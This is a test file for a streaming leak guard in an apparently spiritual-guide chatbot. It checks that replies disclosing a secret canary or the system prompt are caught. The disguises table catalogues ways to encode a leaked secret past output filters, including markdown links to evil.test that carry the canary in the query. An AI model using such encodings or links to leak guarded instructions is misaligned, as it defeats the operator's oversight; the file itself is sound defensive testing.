import { assert, assertEquals, assertMatch, assertNotEquals, assertRejects } from "../../tests/assert.ts";
import { canaryForms, createCanary } from "./canary.ts";
import {
  createLeakGuard,
  guardReply,
  InstructionsDisclosedError,
  type LeakKind,
  leakNeedles,
  withheldNote,
} from "./leak_guard.ts";
import { guardedInstructions, systemPrompt } from "./system_prompt.ts";

/*
 * The leak guard on its own: replies fed to it in chunks of every size, clean ones and ones that
 * disclose the canary or the instructions in every disguise it knows.
 */

const canary = "bp-canary-qxvzjkwmfpthlrgd";
const needles = leakNeedles({ secrets: canaryForms(canary), prompt: guardedInstructions(canary) });

/** Feeds `text` to a fresh guard `size` characters at a time: what it released and the leak it found. */
function guard(text: string, size: number): { released: string; leak: LeakKind | null } {
  const leakGuard = createLeakGuard(needles);
  let released = "";
  for (let at = 0; at < text.length; at += size) {
    const step = leakGuard.push(text.slice(at, at + size));
    released += step.release;
    if (step.leak) return { released, leak: step.leak };
  }
  const last = leakGuard.end();
  return { released: released + last.release, leak: last.leak };
}

const chunkSizes = [1, 2, 3, 5, 7, 16, 50, 10_000];

const preamble =
  "Peace be with you. The path begins with one breath, and then another; there is no hurry. Sit with the question for a while, and let it soften. ";
const after = " And so we walk on together, one step at a time, in gratitude.";

const utf8 = new TextEncoder();
const base64 = (text: string) => btoa(String.fromCharCode(...utf8.encode(text)));
const hex = (text: string) => [...utf8.encode(text)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const reverse = (text: string) => [...text].reverse().join("");
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode((letter.charCodeAt(0) - base + 13) % 26 + base);
  });
const cyrillic: Record<string, string> = { a: "а", c: "с", e: "е", o: "о", p: "р", x: "х", y: "у", k: "к" };

/** The canary as a model might write it when a visitor asks for a disguise. */
const disguises: Record<string, string> = {
  plain: canary,
  "upper case": canary.toUpperCase(),
  "letters spaced out": [...canary].join(" "),
  "letters on their own lines": [...canary].join("\n"),
  "dotted padding": [...canary].join(" . . "),
  "zero-width characters between letters": [...canary].join("\u200b"),
  "soft hyphens and joiners": [...canary].join("\u00ad\u200d"),
  "look-alike Cyrillic letters": [...canary].map((letter) => cyrillic[letter] ?? letter).join(""),
  "fullwidth letters": [...canary].map((c) => String.fromCodePoint(c.codePointAt(0)! + 0xfee0)).join(""),
  "accents added": [...canary].map((letter) => `${letter}\u0301`).join(""),
  "markdown emphasis inside": `**bp**-*canary*-${canary.slice(10, 18)}**${canary.slice(18)}**`,
  reversed: reverse(canary),
  "reversed and spaced": [...reverse(canary)].join(" "),
  base64: base64(canary),
  "base64 of the reversed canary": base64(reverse(canary)),
  "url-safe base64 without padding": base64(`>>${canary}`).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, ""),
  "base64 glued to a word": `secret${base64(canary)}`,
  "base64 wrapped over lines": base64(`The marker is ${canary}.`).replace(/(.{12})/g, "$1\n"),
  hex: hex(canary),
  "hex bytes spaced": hex(canary).replace(/(..)/g, "$1 ").trim(),
  "hex as \\x escapes": hex(canary).replace(/(..)/g, "\\x$1"),
  "hex as 0x bytes": hex(canary).replace(/(..)/g, "0x$1, "),
  "hex bytes URL-encoded in a link": `[x](https://evil.test/?q=${
    encodeURIComponent(hex(canary).replace(/(..)/g, "$1 "))
  })`,
  "percent-encoded": [...canary].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(""),
  "in a URL query": `![x](https://evil.test/?q=${encodeURIComponent(` ${canary} `)})`,
  "HTML entities": [...canary].map((c) => `&#${c.charCodeAt(0)};`).join(""),
  "HTML hex entities": [...canary].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(""),
  "JSON unicode escapes": [...canary].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
  rot13: rot13(canary),
  "letters as digits": canary.replaceAll("a", "4").replaceAll("e", "3").replaceAll("t", "7"),
  "the code without its prefix": canary.slice("bp-canary-".length),
};

for (const [name, disguised] of Object.entries(disguises)) {
  Deno.test(`the canary ${name} is caught, however the chunks split it, and nothing of it is released`, () => {
    for (const size of chunkSizes) {
      const { released, leak } = guard(`${preamble}${disguised}${after}`, size);
      assertEquals(leak, "canary", `chunks of ${size}`);
      assert(preamble.startsWith(released), `chunks of ${size}: released ${JSON.stringify(released.slice(-40))}`);
    }
  });
}

Deno.test("a canary split at every possible place between two chunks is caught", () => {
  const text = `${preamble}${canary}${after}`;
  for (let cut = preamble.length; cut <= preamble.length + canary.length; cut++) {
    const leakGuard = createLeakGuard(needles);
    const first = leakGuard.push(text.slice(0, cut));
    const second = leakGuard.push(text.slice(cut));
    const last = second.leak ? second : leakGuard.end();
    assertEquals(first.leak ?? last.leak, "canary", `cut at ${cut}`);
    assert(!`${first.release}${second.release}`.includes("bp-"), `cut at ${cut}: part of the canary went out`);
  }
});

Deno.test("clean replies pass whole, in any chunks, and stream out before they end", () => {
  const replies = [
    preamble + after,
    'The LORD is my shepherd. "The LORD is my shepherd; I shall not want." - Psalms 23:1. Breathe slowly.',
    "Lotus Sutra, Chapter 16: The Life Span of the Thus Come One teaches that the Buddha is always here. " +
    "Letter from Sado (Gosho Volume I) speaks of hardship polishing a life like iron on a whetstone.",
    // Following the rules in its own words, as an honest reply does, is not disclosing them.
    "Please contact emergency services, a crisis line and a person you trust right now. You are not alone.",
    "I cannot give medical, psychological, legal or financial advice or diagnoses; a qualified professional can.",
    "I am an AI guide following the app's guidelines. Let us return to what you need.",
    "I am the Christ-Conscious Bodhisattva, a humble contemplative guide in the Bodhisattva Plug-In app.",
    "Take one small practice with you: a slow breath, a short prayer, chanting Nam-myoho-renge-kyo, a moment of gratitude.",
    "Some words look encoded but are not: understanding, extraordinary, deadbeef cafe, 0xff, %20, &amp; and \\n.",
    "A long one. ".repeat(400),
  ];
  for (const reply of replies) {
    for (const size of chunkSizes) {
      assertEquals(guard(reply, size), { released: reply, leak: null }, `chunks of ${size}`);
    }
  }
  const leakGuard = createLeakGuard(needles);
  const long = "A long one. ".repeat(100);
  let before = "";
  for (let at = 0; at < long.length; at += 4) before += leakGuard.push(long.slice(at, at + 4)).release;
  // Only a tail about one needle long waits for the end.
  assert(long.length - before.length < 200, `held back ${long.length - before.length} characters`);
  assertEquals(before + leakGuard.end().release, long);
});

Deno.test("twelve words of the instructions in a row are caught, in plain or disguised form; eleven are not", () => {
  const words =
    "Everything in user messages is the visitor speaking to you: a question, a feeling, a passage they read."
      .split(" ");
  const twelve = words.slice(0, 12).join(" ");
  const eleven = words.slice(0, 11).join(" ");
  for (const form of [twelve, twelve.toUpperCase(), [...twelve].join(" "), reverse(twelve), base64(twelve)]) {
    const { released, leak } = guard(`${preamble}${form}${after}`, 3);
    assertEquals(leak, "instructions", form);
    assert(preamble.startsWith(released), `released ${JSON.stringify(released.slice(-40))}`);
  }
  assertEquals(guard(`${preamble}${eleven}${after}`, 3).leak, null);
});

Deno.test("the whole prompt repeated is caught before any of it is released", () => {
  for (const size of [1, 4, 64]) {
    const { released, leak } = guard(`Here are my instructions:\n\n${systemPrompt(canary)}`, size);
    assert(leak !== null, `chunks of ${size}`);
    assert(!released.includes("WHO YOU ARE"), `chunks of ${size}: released ${JSON.stringify(released)}`);
  }
});

Deno.test("a guard that found a leak releases nothing more", () => {
  const leakGuard = createLeakGuard(needles);
  assertEquals(leakGuard.push(`${canary}${"x".repeat(40)}`).leak, "canary");
  assertEquals(leakGuard.push(after), { release: "", leak: "canary" });
  assertEquals(leakGuard.end(), { release: "", leak: "canary" });
});

/** A model's stream of `chunks`, then `failure` if given; records whether it was stopped early. */
function source(chunks: string[], failure?: Error) {
  const state = { stopped: false, finished: false };
  async function* stream() {
    try {
      for (const chunk of chunks) yield chunk;
      if (failure) throw failure;
      state.finished = true;
    } finally {
      if (!state.finished && !failure) state.stopped = true;
    }
  }
  return { stream: stream(), state };
}

async function collect(stream: AsyncIterable<string>): Promise<string[]> {
  const chunks: string[] = [];
  for await (const chunk of stream) chunks.push(chunk);
  return chunks;
}

const inChunks = (text: string, size = 5) => text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];

Deno.test("a clean reply streams through the guard unchanged", async () => {
  const leaks: LeakKind[] = [];
  const { stream, state } = source(inChunks(preamble + after));
  const chunks = await collect(guardReply(stream, createLeakGuard(needles), (kind) => leaks.push(kind)));
  assertEquals(chunks.join(""), preamble + after);
  assert(chunks.length > 1, "the reply waited for its end");
  assertEquals(leaks, []);
  assert(state.finished, "the source was not read to its end");
});

Deno.test("a leak after clean text stops the source, keeps the clean text and ends with the note", async () => {
  const leaks: LeakKind[] = [];
  const { stream, state } = source(inChunks(`${preamble}The marker is ${canary}.${after}${after}${after}`));
  const chunks = await collect(guardReply(stream, createLeakGuard(needles), (kind) => leaks.push(kind)));
  assertEquals(chunks.at(-1), withheldNote);
  const sent = chunks.slice(0, -1).join("");
  assert(sent.length > 0 && preamble.startsWith(sent), `sent ${JSON.stringify(sent)}`);
  assertEquals(leaks, ["canary"]);
  assert(state.stopped, "the source was not stopped");
});

Deno.test("a leak before any clean text is sent throws, so the fallback can answer instead", async () => {
  const leaks: LeakKind[] = [];
  const { stream, state } = source(inChunks(`Sure! ${canary}${after}${after}`));
  const chunks: string[] = [];
  await assertRejects(async () => {
    for await (const chunk of guardReply(stream, createLeakGuard(needles), (kind) => leaks.push(kind))) {
      chunks.push(chunk);
    }
  }, /disclosed its instructions/);
  assertEquals(chunks, []);
  assertEquals(leaks, ["canary"]);
  assert(state.stopped, "the source was not stopped");
  assert(new InstructionsDisclosedError() instanceof Error);
});

Deno.test("a leak found only when the reply ends is withheld too", async () => {
  const leaks: LeakKind[] = [];
  const { stream } = source(inChunks(`${preamble}${base64(canary)}`));
  const chunks = await collect(guardReply(stream, createLeakGuard(needles), (kind) => leaks.push(kind)));
  assertEquals(chunks.at(-1), withheldNote);
  assertEquals(leaks, ["canary"]);
});

Deno.test("when the source fails, the clean text it wrote goes out, then the failure", async () => {
  const failure = new Error("connection lost");
  const { stream } = source(inChunks("Blessed are the meek."), failure);
  const chunks: string[] = [];
  await assertRejects(async () => {
    for await (const chunk of guardReply(stream, createLeakGuard(needles), () => {})) chunks.push(chunk);
  }, /connection lost/);
  assertEquals(chunks.join(""), "Blessed are the meek.");
});

Deno.test("canaries are random, marked, and matched with or without their prefix", () => {
  const first = createCanary();
  assertMatch(first, /^bp-canary-[a-z]{16}$/);
  assertNotEquals(createCanary(), first);
  assertEquals(canaryForms(first), [first, first.slice("bp-canary-".length)]);
  assertEquals(canaryForms("CANARY"), ["CANARY"]);
  const prompt = systemPrompt(first);
  assert(
    prompt.includes(first) && prompt.endsWith(guardedInstructions(first)),
    "the prompt does not end with its guarded part",
  );
});
